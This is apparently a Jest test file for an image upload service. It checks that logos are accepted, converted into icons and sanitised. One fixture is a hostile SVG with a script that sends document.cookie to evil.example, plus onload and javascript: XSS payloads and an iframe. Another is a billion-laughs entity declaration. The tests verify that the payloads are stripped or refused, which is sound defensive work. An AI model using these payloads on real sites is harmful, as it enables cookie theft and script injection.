/**
 * @jest-environment node
 */
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { BRAND_ICONS, ICON_NAMES, type BrandIcons } from '@/lib/rules/images/brandIcons';
import type { SanityDocument } from '@/server/content/localDataset';
import { localImageStorage } from './localImageStorage';
import { uploadImage, type UploadResult } from './uploadImage';
import { folderFiles } from './uploadedFiles';

/** A 400 × 80 wordmark: far from square, and smaller than a hero may be. */
const wideLogo = () =>
  sharp({ create: { width: 400, height: 80, channels: 4, background: { r: 11, g: 110, b: 79, alpha: 1 } } })
    .png()
    .toBuffer();

const svgLogo = (inside = '', rootAttributes = '') =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="40" viewBox="0 0 200 40"${rootAttributes}>` +
      `<rect width="200" height="40" rx="8" fill="#0b6e4f"/><text x="12" y="27" font-size="20" fill="#fff">Sparkle</text>${inside}</svg>`,
  );

describe('uploading a logo', () => {
  let dir: string;
  let written: SanityDocument[];
  const store = { importDocuments: async (documents: SanityDocument[]) => void written.push(...documents) };
  const files = () => folderFiles(dir);
  const upload = (bytes: Buffer, name: string) => uploadImage(bytes, name, localImageStorage(files()), store, { use: 'logo', iconFiles: files() });
  const storedText = async (result: UploadResult) => {
    if (!result.ok) throw new Error(result.error);
    return readFile(path.join(dir, (result.asset.url as string).split('/').pop()!), 'utf8');
  };

  beforeEach(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'logos-'));
    written = [];
  });
  afterEach(() => rm(dir, { recursive: true, force: true }));

  /** Every icon the asset names is stored, and is a square of its size (the ICO's largest picture is 48 px). */
  async function expectIcons(asset: SanityDocument) {
    const icons = asset.icons as BrandIcons;
    expect(Object.keys(icons).sort()).toEqual([...ICON_NAMES].sort());
    for (const name of ICON_NAMES) {
      const bytes = await readFile(path.join(dir, icons[name]));
      const { size } = BRAND_ICONS[name];
      if (name === 'favicon') {
        expect(bytes.readUInt16LE(2)).toBe(1);
        const count = bytes.readUInt16LE(4);
        const sides = [];
        for (let i = 0; i < count; i++) {
          const offset = bytes.readUInt32LE(6 + 16 * i + 12);
          const length = bytes.readUInt32LE(6 + 16 * i + 8);
          const picture = await sharp(bytes.subarray(offset, offset + length)).metadata();
          expect(picture.format).toBe('png');
          expect(picture.width).toBe(picture.height);
          sides.push(picture.width);
        }
        expect(sides).toEqual([16, 32, 48]);
      } else {
        const metadata = await sharp(bytes).metadata();
        expect({ format: metadata.format, width: metadata.width, height: metadata.height }).toEqual({ format: 'png', width: size, height: size });
      }
    }
  }

  it('accepts a 400 × 80 PNG, which a hero image may not be, and makes every icon from it', async () => {
    const bytes = await wideLogo();
    expect(await uploadImage(bytes, 'hero.png', localImageStorage(files()), store)).toMatchObject({
      ok: false,
      error: 'This image is 400 × 80 px; images must be at least 200 × 200 px.',
    });
    const result = await upload(bytes, 'logo.png');
    expect(result).toMatchObject({ ok: true, asset: { mimeType: 'image/png', metadata: { dimensions: { width: 400, height: 80 } } } });
    if (!result.ok) return;
    await expectIcons(result.asset);
    expect(written).toEqual([result.asset]);
  });

  it('accepts an SVG, stores it as SVG and makes every icon from it', async () => {
    const result = await upload(svgLogo(), 'logo.svg');
    expect(result).toMatchObject({
      ok: true,
      removed: [],
      asset: { mimeType: 'image/svg+xml', extension: 'svg', url: expect.stringMatching(/-200x40\.svg$/) },
    });
    if (!result.ok) return;
    await expectIcons(result.asset);
    // The 512 px icon is drawn from the vector: the green of the logo reaches it, not a blur of a 200 px bitmap.
    const icons = result.asset.icons as BrandIcons;
    const { data } = await sharp(path.join(dir, icons.icon512))
      .extract({ left: 256, top: 240, width: 1, height: 1 })
      .raw()
      .toBuffer({ resolveWithObject: true });
    expect([...data.subarray(0, 3)]).toEqual([11, 110, 79]);
  });

  it('takes scripts, event attributes and external references out of an SVG before storing it', async () => {
    const result = await upload(
      svgLogo(
        '<script>fetch("https://evil.example/?c="+document.cookie)</script>' +
          '<image href="https://tracker.example/pixel.png" width="1" height="1"/>' +
          '<a xlink:href="javascript:alert(1)"><circle r="3" style="fill:url(https://evil.example/x.svg#p)"/></a>' +
          '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"></iframe></foreignObject>',
        ' onload="alert(document.domain)"',
      ),
      'logo.svg',
    );
    expect(result.ok).toBe(true);
    const stored = await storedText(result);
    for (const gone of ['<script', 'onload', 'evil.example', 'tracker.example', 'javascript:', 'foreignObject', 'iframe']) expect(stored).not.toContain(gone);
    expect(stored).toContain('<text x="12" y="27" font-size="20" fill="#fff">Sparkle</text>');
    expect(result).toMatchObject({
      removed: expect.arrayContaining([
        'the event attribute onload',
        '<script>',
        '<foreignObject>',
        'the external reference href="https://tracker.example/pixel.png"',
        'the external reference xlink:href="javascript:alert(1)"',
        'the external reference in style',
      ]),
    });
  });

  it('refuses an SVG that declares entities, naming why, and stores nothing', async () => {
    const billionLaughs = Buffer.from(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><svg xmlns="http://www.w3.org/2000/svg" width="100" height="40">&lol2;</svg>',
    );
    expect(await upload(billionLaughs, 'logo.svg')).toEqual({
      ok: false,
      status: 422,
      error: 'This SVG cannot be used: it has a DOCTYPE (it can declare entities). Export it again as plain SVG.',
    });
    expect(await readdir(dir)).toEqual([]);
    expect(written).toEqual([]);
  });

  it('refuses a renamed program, whatever its name says', async () => {
    const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(4096)]);
    const exe = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00', 'latin1'), Buffer.alloc(4096)]);
    for (const [bytes, name] of [
      [elf, 'logo.png'],
      [exe, 'logo.svg'],
    ] as const)
      expect(await upload(bytes, name)).toEqual({ ok: false, status: 415, error: 'This file is not a JPEG, PNG, WebP, AVIF or SVG image.' });
    expect(await readdir(dir)).toEqual([]);
  });

  it('refuses an SVG as a hero image, and a logo too thin to make an icon of', async () => {
    expect(await uploadImage(svgLogo(), 'hero.svg', localImageStorage(files()), store)).toEqual({
      ok: false,
      status: 415,
      error: 'This file is not a JPEG, PNG, WebP or AVIF image.',
    });
    const sliver = await sharp({ create: { width: 2000, height: 40, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    expect(await upload(sliver, 'logo.png')).toEqual({
      ok: false,
      status: 422,
      error: 'This logo is 2000 × 40 px; a logo’s long side can be at most 10 times its short side.',
    });
  });
});
